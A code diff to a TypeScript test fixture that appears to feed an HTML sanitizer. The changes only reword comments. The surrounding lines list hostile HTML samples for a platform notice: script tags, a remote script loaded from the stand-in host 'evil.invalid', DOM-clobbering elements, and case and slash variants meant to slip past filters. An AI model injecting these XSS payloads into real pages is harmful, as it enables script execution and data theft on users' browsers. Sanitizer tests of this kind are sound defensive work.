@@ -1,9 +1,9 @@
-/** Where a hostile text would fetch something from. Nobody answers there. */
+/** The origin from which a hostile text would load something. No server exists there. */
 export const foreign = 'evil.invalid';
 
 const act = 'window.ran=1;alert(1)';
 
-/** What somebody with access to a platform might write into a notice, by what it tries. */
+/** What an attacker with access to a platform might write into a notice, by what it attempts. */
 export const hostileHtml: [string, string][] = [
   ['script', `<script>${act}</script>`],
   ['foreign script', `<script src="https://${foreign}/x.js"></script>`],
@@ -68,7 +68,7 @@ export const hostileHtml: [string, string][] = [
     'names of the page',
     `<p id="document">{}</p><div id="portal"></div><a name="location" href="https://${foreign}/">x</a>`,
   ],
-  // What follows makes use of how browsers mend broken markup, and of elements that are rarely thought of.
+  // The rest relies on how browsers repair broken markup, and on rarely used elements.
   ['script in capitals', `<SCRIPT>${act}</SCRIPT><ScRiPt SRC=//${foreign}/x.js></ScRiPt>`],
   ['script with a slash', `<script/x>${act}</script/x><script\n>${act}</script\n>`],
   ['module script', `<script type="module">${act}</script><script type="importmap">{"imports":{}}</script>`],
